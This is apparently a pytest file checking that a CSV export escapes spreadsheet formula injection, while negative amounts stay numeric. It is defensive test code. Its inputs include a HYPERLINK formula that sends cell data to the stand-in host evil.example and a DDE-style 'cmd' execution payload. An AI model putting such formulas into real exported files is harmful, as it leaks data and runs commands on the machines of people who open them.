"""The breaks export's CSV: text from outside that a spreadsheet would run as a formula is
written behind a single quote; amounts, negative ones included, stay numbers."""

from __future__ import annotations

import csv
import io
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from datetime import UTC, datetime
from typing import Any

import pytest

from services.operations.export import COLUMNS, ExportFormat, export_open, spreadsheet_cell

AT = datetime(2026, 3, 2, 9, 0, tzinfo=UTC)
LINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


class Rows:
    """A connection whose server-side cursor yields the given break rows."""

    def __init__(self, *rows: dict[str, Any]) -> None:
        self.rows = rows

    @asynccontextmanager
    async def transaction(self, **_: object) -> AsyncIterator[None]:
        yield

    def cursor(self, *_: object, **__: object) -> AsyncIterator[dict[str, Any]]:
        async def rows() -> AsyncIterator[dict[str, Any]]:
            for row in self.rows:
                yield row

        return rows()


def break_row(**values: Any) -> dict[str, Any]:
    row: dict[str, Any] = {
        "id": 7,
        "break_key": "[]",
        "break_type": "amount_mismatch",
        "settlement_id": None,
        "rail_object_id": "tr_1",
        "field": "amount",
        "currency": "USD",
        "expected": "900",
        "actual": "-200",
        "reason": "amount:-1100",
        "status": "open",
        "first_seen": AT,
        "last_seen": AT,
        "first_run_id": 1,
        "last_run_id": 1,
        "resolved_at": None,
        "resolved_by": None,
        "resolution_reason": None,
        "previous_id": None,
    }
    return row | values


async def exported(*rows: dict[str, Any]) -> list[dict[str, str]]:
    conn: Any = Rows(*rows)  # stands in for an asyncpg connection
    lines = [line async for line in export_open(conn, ExportFormat.CSV)]
    return list(csv.DictReader(io.StringIO("".join(lines))))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_that_would_start_a_formula_is_quoted(start: str) -> None:
    assert spreadsheet_cell(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("value", [-200, 0, 900, "tr_1", "amount:-500", "a=b"])
def test_numbers_and_plain_text_are_written_as_they_are(value: object) -> None:
    assert spreadsheet_cell(value) == value


async def test_a_formula_from_outside_is_neutralised_and_a_negative_amount_stays_a_number() -> None:
    [line] = await exported(break_row(reason=LINK, rail_object_id="@SUM(1+1)*cmd|' /C calc'!A0"))
    assert list(line) == list(COLUMNS)
    assert line["reason"] == "'" + LINK
    assert line["rail_object_id"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert (line["expected"], line["actual"]) == ("900", "-200")
    assert int(line["actual"]) == -200
